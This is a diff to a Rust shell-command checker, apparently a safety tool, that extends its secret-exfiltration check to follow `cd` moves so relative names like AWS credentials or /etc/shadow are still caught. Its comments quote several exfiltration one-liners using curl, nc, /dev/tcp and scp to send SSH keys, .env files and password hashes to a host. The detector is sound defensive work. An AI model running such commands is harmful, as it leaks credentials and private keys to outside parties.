@@ -2082,7 +2082,23 @@ impl Check for SecretExfiltration {
         let holders = LazyCell::new(|| secret_var_copies(a));
         let substituted = LazyCell::new(|| substituted_vars(a));
         let copies = LazyCell::new(|| secret_copies(cx));
+        // The directory the line moved to with `cd`/`pushd`, resolved (`None` after a move to
+        // a directory known only at run time): a relative name is read there (`cd ~/.aws &&
+        // curl -T credentials …`).
+        let mut dir: Option<std::borrow::Cow<Path>> = None;
+        let mut known_dir = true;
         for (i, u) in a.units.iter().enumerate() {
+            if let Some(d) = super::destructive::cd_target(u) {
+                let cur = dir.take().unwrap_or(std::borrow::Cow::Borrowed(cx.cwd));
+                if known_dir && !d.contains(['$', '`']) && d != "-" {
+                    dir = Some(std::borrow::Cow::Owned(
+                        crate::files::resolve_links_under(&d, &cur, cx.look).0,
+                    ));
+                } else {
+                    known_dir = false;
+                }
+            }
+            let moved_dir = dir.as_deref().filter(|_| known_dir);
             // `cat ~/.ssh/id_rsa > /dev/tcp/host/port`: bash opens the connection itself;
             // `exec 5<>/dev/udp/host/53; cat .env >&5`: through a descriptor opened earlier.
             let to_socket = u.redirects.iter().any(|r| {
@@ -2430,7 +2446,11 @@ impl Check for SecretExfiltration {
                     .map(|(_, f)| f)
                     .filter(|f| !t.contains("://") && word_is_secret(f))
             });
-            if let Some(s) = from_stdin.or(from_form) {
+            if let Some(s) = from_stdin
+                .map(str::to_owned)
+                .or(from_form.map(str::to_owned))
+                .or_else(|| moved_dir.and_then(|d| moved_secret(u, d)))
+            {
                 out.push(deny(
                     Some(i),
                     u.span,
@@ -2466,6 +2486,7 @@ impl Check for SecretExfiltration {
                     // `cat /tmp/e | nc host 9` after `cat .env > /tmp/e`: a copy read.
                     if let Some(s) = reads_secret_in(cx, r)
                         .or_else(|| copy_read(r, &copies).map(|c| c.what.clone()))
+                        .or_else(|| moved_dir.and_then(|d| moved_secret(r, d)))
                     {
                         out.push(deny(
                             Some(i),
@@ -2482,6 +2503,66 @@ impl Check for SecretExfiltration {
             }
         }
     }
+}
+
+/// A secret a unit names relatively, read in `dir`, the directory an earlier `cd` of the line
+/// moved to (`cd ~/.aws && curl -T credentials …`, `cd /etc && nc host 9 < shadow`, `cd ~ &&
+/// tar cf - .ssh | nc …`). Inside a directory of secrets every name is one, so only the words a
+/// unit reads as files count: for a sender, its standard input, the file part of a form or data
+/// value (`f=@NAME`, `@NAME`, `f=<NAME`), the values its table gives the role of a file read
+/// (`curl -T`, `wget --post-file`; identity options such as `ssh -i` left out) and the sources of
+/// a copy to another machine (`scp NAME host:`); for another program, the files
+/// [`args_naming`] reads in its words and input redirects. Programs that only name their paths
+/// read none of them.
+fn moved_secret(u: &Unit, dir: &Path) -> Option<String> {
+    let p = prog(u)?;
+    if names_only(p) {
+        return None;
+    }
+    let under = |c: &str| {
+        (!c.is_empty() && !c.starts_with(['/', '~', '$', '-']) && !c.contains(['$', '`', ':']))
+            .then(|| dir.join(c))
+            .and_then(|p| p.to_str().map(str::to_owned))
+            .filter(|p| word_is_secret(p))
+    };
+    if !is_sender(p) {
+        return args_naming(u, &|c| under(c).is_some(), false).and_then(|c| under(&c));
+    }
+    let stdin = u
+        .redirects
+        .iter()
+        .filter(|r| r.op == "<")
+        .filter_map(|r| r.target.clone());
+    let forms = u.args().map(text).filter_map(|t| {
+        t.rfind(['@', '<'])
+            .filter(|_| !t.contains("://"))
+            .map(|k| t[k + 1..].to_owned())
+    });
+    let spec = crate::programs::tables::builtin(p).unwrap_or_default();
+    let parsed = crate::programs::args::parse(Some(&spec), &u.argv);
+    let read_values = parsed
+        .opts
+        .iter()
+        .filter(|o| {
+            spec.role(o) == Some(crate::programs::args::Role::Reads)
+                && !is_identity_option(Some(p), false, &o.name)
+        })
+        .filter_map(|o| o.value.clone())
+        .collect::<Vec<_>>();
+    let sources = if matches!(p, "scp" | "rsync" | "rclone") && copies_to_remote(u, p) {
+        let n = parsed.operands.len().saturating_sub(1);
+        parsed.operands[..n]
+            .iter()
+            .filter_map(|&k| u.argv.get(k).map(|a| text(a).to_owned()))
+            .collect()
+    } else {
+        Vec::new()
+    };
+    stdin
+        .chain(forms)
+        .chain(read_values)
+        .chain(sources)
+        .find_map(|c| under(&c))
 }
 
 /// The first secret a file-transfer client's own commands upload: its commands read from
